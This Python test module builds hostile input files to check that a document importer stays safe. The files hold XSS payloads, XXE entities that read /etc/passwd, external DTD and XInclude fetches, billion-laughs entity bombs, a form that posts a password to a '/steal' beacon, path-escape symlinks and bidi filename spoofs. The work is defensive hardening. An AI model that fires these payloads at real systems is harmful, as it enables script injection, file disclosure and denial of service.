"""Hand-made hostile sources, generated in code (nothing big is committed).

Each case writes one file (and sometimes a file next to it) into its own folder. `{beacon}` in
a case's markup is replaced by the address of a local server that counts connections: anything
that reaches it during an import is a network request the import should never make.

Expectations per case: `expect` is "import", "refuse" or "either" (a clean refusal is always
acceptable for junk); `leaks` are strings that must not reach the stored title, text or HTML
(file contents, expanded entities); `max_text` bounds the stored text (entity expansion);
`seconds` bounds the whole import in its own process.
"""

from __future__ import annotations

import base64
import os
import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.unit.library.filled import png

Build = Callable[[Path, str], bytes]

PROSE = ("The harbour master kept a careful log of every ship that entered the port, noting the "
         "weather, the tide and the cargo in a small and steady hand. ")
ARTICLE = f"<p>{PROSE * 3}</p><p>{PROSE.replace('harbour', 'river') * 3}</p>"


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    build: Build
    expect: str = "either"  # "import" | "refuse" | "either"
    leaks: tuple[str, ...] = ()
    max_text: int | None = None
    seconds: float = 30.0
    note: str = ""


def page(body: str, head: str = "<title>A hostile page</title>", doctype: str = "<!DOCTYPE html>") -> str:
    return f"{doctype}<html><head>{head}</head><body><article><h1>A hostile page</h1>{body}</article></body></html>"


def html_case(name: str, body: str, head: str = "<title>A hostile page</title>", expect: str = "import",
              **kw: object) -> Case:
    def build(_folder: Path, beacon: str) -> bytes:
        return page(body.replace("{beacon}", beacon), head.replace("{beacon}", beacon)).encode()
    return Case(name, f"{name}.html", build, expect, **kw)  # type: ignore[arg-type]


def raw_case(name: str, filename: str, data: bytes | Callable[[], bytes], expect: str = "either",
             **kw: object) -> Case:
    def build(_folder: Path, _beacon: str) -> bytes:
        return data() if callable(data) else data
    return Case(name, filename, build, expect, **kw)  # type: ignore[arg-type]


# -- builders that need more than a string ----------------------------------------------------

def _deep(open_: str, close: str, depth: int) -> Callable[[], bytes]:
    return lambda: page(open_ * depth + ARTICLE + close * depth).encode()


def _billion_laughs(_f: Path, _b: str) -> bytes:
    ents = ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">'
                                      for i in range(1, 10)]
    return ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html [\n' + "\n".join(ents) + "\n]>\n"
            '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Laughs</title></head><body>'
            f"<article>{ARTICLE}<p>&lol9;</p></article></body></html>").encode()


def _quadratic_blowup(_f: Path, _b: str) -> bytes:
    return (f'<!DOCTYPE html [<!ENTITY a "{"B" * 100_000}">]><html><head><title>Blowup</title></head>'
            f'<body><article>{ARTICLE}<p>{"&a;" * 20_000}</p></article></body></html>').encode()


def _xxe(_f: Path, _b: str) -> bytes:
    return ('<?xml version="1.0"?><!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
            '<!ENTITY % remote SYSTEM "{b}/evil.dtd"> %remote;]>'
            '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>XXE</title></head><body><article>'
            f"{ARTICLE}<p>&xxe;</p></article></body></html>").replace("{b}", _b).encode()


def _external_dtd(_f: Path, beacon: str) -> bytes:
    return (f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{beacon}/style.xsl"?>'
            f'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{beacon}/xhtml1-strict.dtd">'
            '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:xi="http://www.w3.org/2001/XInclude">'
            f'<head><title>DTD</title></head><body><article>{ARTICLE}<xi:include href="/etc/passwd" parse="text"/>'
            "</article></body></html>").encode()


def _outside_files(folder: Path, _b: str) -> bytes:
    secret = folder.parent / f"{folder.name}-outside.png"
    secret.write_bytes(png((1, 2, 3), size=12))
    os.symlink(secret, folder / "link.png")
    return page(ARTICLE + f'<img src="../{secret.name}" alt="a secret outside the folder">'
                f'<img src="file://{secret}" alt="a file url"><img src="link.png" alt="a symlink out">'
                '<img src="/etc/passwd"><img src="file:///etc/passwd">').encode()


def _svg_image(_f: Path, _b: str) -> bytes:
    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="100" height="100">'
           b'<script>alert(document.cookie)</script><rect width="100" height="100" fill="red"/>'
           b'<image href="http://127.0.0.1:9/x.png"/></svg>')
    return page(ARTICLE + f'<img src="data:image/svg+xml;base64,{base64.b64encode(svg).decode()}" alt="svg">'
                + '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)">x</a>'
                  '<foreignObject><iframe src="javascript:alert(4)"></iframe></foreignObject></svg>').encode()


def _huge_line(n_bytes: int) -> Callable[[], bytes]:
    def build() -> bytes:
        rng = random.Random(5)
        words = PROSE.split()
        chunk = " ".join(rng.choice(words) for _ in range(20_000)).encode() + b" "
        return b"A single enormous line " + chunk * (n_bytes // len(chunk) + 1)
    return build


def _too_large(folder: Path, _b: str) -> bytes:
    return b""  # replaced by a sparse 70 MB file in `write_case`


def _mixed_encodings() -> bytes:
    return ("Mixed up\n\n".encode() + "Le café était fermé. ".encode("utf-8") + "Le café était fermé. ".encode("cp1252")
            + "東京の天気は晴れ。".encode("shift_jis") + "Привет, мир. ".encode("koi8-r") + b"\n\n" + PROSE.encode())


def _binary() -> bytes:
    return random.Random(3).randbytes(200_000)


# -- the corpus ------------------------------------------------------------------------------

CASES: list[Case] = [
    raw_case("deep-divs-100k", "deep-divs.html", _deep("<div>", "</div>", 100_000)),
    raw_case("deep-unclosed-100k", "deep-unclosed.html", lambda: page("<div><span>" * 50_000 + ARTICLE).encode()),
    raw_case("deep-inline-100k", "deep-inline.html", _deep("<b><i>", "</i></b>", 50_000)),
    raw_case("deep-tables-20k", "deep-tables.html", _deep("<table><tr><td>", "</td></tr></table>", 20_000)),
    raw_case("deep-blockquote-markdown", "deep-quotes.md", lambda: ("# Deep\n\n" + "> " * 20_000 + PROSE).encode()),
    raw_case("deep-list-markdown", "deep-list.md",
             lambda: ("# Deep list\n\n" + "".join("  " * i + "- item\n" for i in range(3000)) + PROSE).encode()),
    raw_case("deep-jsonld", "deep-jsonld.html",
             lambda: page(ARTICLE, '<title>x</title><script type="application/ld+json">'
                                  + "[" * 100_000 + "]" * 100_000 + "</script>").encode()),
    html_case("giant-attribute-10mb", f'<p title="{"A" * 10_000_000}">{PROSE}</p>' + ARTICLE),
    html_case("many-attributes-100k", "<p " + " ".join(f"a{i}=x" for i in range(100_000)) + f">{PROSE}</p>"
              + ARTICLE, seconds=10.0, note="under 1 MB: must not take long"),
    Case("billion-laughs-xhtml", "laughs.xhtml", _billion_laughs, "either", leaks=("lollollollollol",),
         max_text=100_000),
    Case("quadratic-entity-blowup", "blowup.html", _quadratic_blowup, "either", leaks=("B" * 1000,),
         max_text=300_000),
    Case("xxe-file-entity", "xxe.xhtml", _xxe, "either", leaks=("root:x:0:0", "/bin/bash", "/usr/sbin/nologin")),
    Case("external-dtd-xinclude-stylesheet", "dtd.xhtml", _external_dtd, "either", leaks=("root:x:0:0",)),
    raw_case("utf8-bom-then-latin1", "bom-latin1.txt", b"\xef\xbb\xbfCaf\xe9 au lait\n\n" + PROSE.encode("cp1252")),
    raw_case("utf16le-bom-html", "utf16.html", b"\xff\xfe" + page(ARTICLE).encode("utf-16-le"), "import"),
    raw_case("utf16-no-bom-text", "utf16-nobom.txt", ("Sans BOM\n\n" + PROSE).encode("utf-16-le")),
    raw_case("utf32-bom-text", "utf32.txt", ("UTF-32 title\n\n" + PROSE).encode("utf-32")),
    raw_case("mixed-encodings", "mixed.txt", _mixed_encodings),
    html_case("utf7-meta-charset", "<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>" + ARTICLE,
              '<meta charset="utf-7"><title>UTF-7</title>'),
    raw_case("nul-bytes-html", "nul.html", lambda: page("<p>te\x00xt</p><scr\x00ipt>alert(1)</script>"
                                                        + ARTICLE.replace(" ", " \x00")).encode()),
    raw_case("nul-bytes-text", "nul.txt", ("Title\x00 with NUL\n\n" + PROSE.replace(" ", "\x00 ")).encode()),
    raw_case("invalid-utf8-overlong", "overlong.html",
             lambda: page("").encode().replace(b"</article>", b"<p>\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script"
                                                                 b"\xc0\xbe \xed\xa0\x80 \xf8\x88\x80\x80\x80</p>"
                                                                 + ARTICLE.encode() + b"</article>")),
    html_case("bidi-and-zero-width-title", ARTICLE,
              "<title>\u202eexe.txt\u200b\u200d\u2066 Invoice\u2069\u200f\ufeff\u00ad</title>"),
    raw_case("bidi-override-text-title", "bidi.txt",
             ("\u202etxt.exe Harbour report for the spring season\n\n" + PROSE).encode(), "import"),
    raw_case("bidi-override-markdown-title", "bidi.md",
             ("# \u202etxt.exe Harbour report \u2066for spring\u2069\n\n" + PROSE).encode(), "import"),
    raw_case("ansi-escapes-in-title", "ansi.txt",
             ("\x1b[2J\x1b[31mRed alert\x07\x1b]0;pwned\x07\n\n" + PROSE + "\x1b[0m").encode()),
    html_case("javascript-urls",
              '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a>'
              '<a href="java\tscript:alert(1)">c</a><a href="&#106;avascript:alert(1)">d</a>'
              '<a href=" javascript:alert(1)">e</a><a href="javascript&colon;alert(1)">f</a>'
              '<a href="&#x01;javascript:alert(1)">g</a><a href="vbscript:msgbox(1)">h</a>'
              '<img src="javascript:alert(1)"><area href="javascript:alert(1)">' + ARTICLE),
    html_case("data-urls",
              '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>'
              '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'
              '<object data="data:text/html,x"></object><img src="data:text/html,<script>x</script>">'
              '<a href="DATA:text/html,x">b</a>' + ARTICLE),
    Case("file-urls-and-paths-outside", "outside.html", _outside_files, "import"),
    Case("svg-with-scripts", "svg.html", _svg_image, "import"),
    html_case("css-url-beacons",
              f'<p style="background-image:url(\'{{beacon}}/p.png\')">{PROSE}</p>'
              '<div style="behavior:url(x.htc);width:expression(alert(1))">x</div>' + ARTICLE,
              '<title>CSS</title><style>@import url({beacon}/a.css); body{background:url({beacon}/bg.png)}'
              '</style><link rel="stylesheet" href="{beacon}/s.css"><link rel="preload" href="{beacon}/p">'
              '<link rel="prefetch" href="{beacon}/f"><link rel="dns-prefetch" href="{beacon}">'
              '<link rel="icon" href="{beacon}/favicon.ico">'),
    html_case("meta-refresh-and-cookies", ARTICLE,
              '<title>Refresh</title><meta http-equiv="refresh" content="0;url={beacon}/r">'
              '<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="x">'),
    html_case("base-href", '<img src="pic.png" alt="relative image"><a href="rel/link">rel</a>' + ARTICLE,
              '<title>Base</title><base href="{beacon}/">'),
    html_case("srcset-and-lazy-trackers",
              '<img srcset="{beacon}/1x.png 1x, {beacon}/2x.png 2x" alt="srcset">'
              '<picture><source srcset="{beacon}/s.webp" type="image/webp"><img src="{beacon}/i.png"></picture>'
              '<img data-src="{beacon}/lazy.jpg" class="lazy" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'
              '<img src="{beacon}/pixel.gif" width="1" height="1"><a ping="{beacon}/ping" href="#x">ping</a>'
              '<video poster="{beacon}/poster.jpg" src="{beacon}/v.mp4"></video><audio src="{beacon}/a.mp3">'
              '</audio><table background="{beacon}/bg.png"><tr><td background="{beacon}/td.png">t</td></tr>'
              "</table>" + ARTICLE),
    html_case("event-handlers",
              '<p onclick="alert(1)" ONMOUSEOVER="alert(2)" onclick ="x">p</p><img src=x onerror=alert(1)>'
              '<details open ontoggle="alert(1)">d</details><marquee onstart="alert(1)">m</marquee>'
              '<body onload="alert(1)"><div onpointerenter="alert(1)" onfocus="alert(1)" autofocus>x</div>'
              '<video><source onerror="alert(1)"></video>' + ARTICLE),
    html_case("embedded-objects",
              '<iframe srcdoc="<script>alert(1)</script>" src="{beacon}/frame"></iframe>'
              '<object data="{beacon}/o.swf"></object><embed src="{beacon}/e.swf"><applet code="A.class">'
              "</applet><portal src=\"{beacon}/portal\"></portal><frameset><frame src=\"{beacon}/f\">"
              "</frameset>" + ARTICLE),
    html_case("forms",
              '<form action="{beacon}/steal"><input name="password" type="password" value="x">'
              '<button formaction="javascript:alert(1)">Go</button><input type="image" src="{beacon}/i.png">'
              '</form><isindex action="{beacon}/isindex">' + ARTICLE),
    html_case("mutation-xss",
              '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
              '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>'
              '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>'
              '</mtext></math><template><script>alert(1)</script></template>' + ARTICLE),
    html_case("comments-and-cdata",
              "<!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(2)</script>]]>"
              "<!--><script>alert(3)</script>--><!-- -- --><script>alert(4)</script>" + ARTICLE),
    raw_case("html-inside-text-file", "markup.txt",
             ("Markup in a text file\n\n<script>alert(1)</script> <img src=x onerror=alert(1)> "
              "<a href='javascript:alert(1)'>x</a>\n\n" + PROSE).encode(), "import"),
    raw_case("hostile-markdown", "hostile.md",
             ("# Hostile markdown\n\n[click](javascript:alert(1)) [data](data:text/html,x) <javascript:alert(1)>\n\n"
              "![tracker](http://127.0.0.1:9/p.png) ![f](file:///etc/passwd)\n\n<script>alert(1)</script>\n\n"
              "<img src=x onerror=alert(1)>\n\n<iframe src='http://127.0.0.1:9/'></iframe>\n\n"
              "[ref]\n\n[ref]: javascript:alert(1)\n\n" + PROSE).encode(), "import"),
    raw_case("single-line-50mb-text", "huge.txt", _huge_line(50 * 1024 * 1024), "either", seconds=150.0),
    raw_case("single-line-20mb-html", "huge.html",
             lambda: page("<p>" + "word " * 4_000_000 + "</p>").encode(), "either", seconds=150.0),
    Case("too-large-70mb", "too-large.txt", _too_large, "refuse", seconds=15.0),
    html_case("many-paragraphs-100k", "<p>x y</p>" * 100_000 + ARTICLE, expect="either", seconds=60.0),
    html_case("long-word-5mb", f"<p>{'x' * 5_000_000}</p>" + ARTICLE, expect="either"),
    raw_case("jsonld-10mb", "jsonld.html",
             lambda: page(ARTICLE, '<title>j</title><script type="application/ld+json">{"@type":"NewsArticle",'
                                   '"headline":"' + "h" * 10_000_000 + '"}</script>').encode()),
    html_case("entity-flood", "<p>" + "&amp;&lt;script&gt;" * 200_000 + "</p>" + ARTICLE, expect="either"),
    raw_case("binary-named-html", "binary.html", _binary),
    html_case("only-scripts", "<script>alert(1)</script>" * 100, expect="refuse"),
    html_case("forged-image-refs",
              '<img src="archivist-image:0000000000000000000000000000000000000000000000000000000000000000">'
              '<img src="archivist-image:../../etc/passwd"><img src="ARCHIVIST-IMAGE:x">' + ARTICLE),
]


def write_case(case: Case, folder: Path, beacon: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / case.filename
    if case.build is _too_large:
        with path.open("wb") as fh:  # sparse: costs no disk or time
            fh.truncate(70 * 1024 * 1024)
        return path
    path.write_bytes(case.build(folder, beacon))
    return path
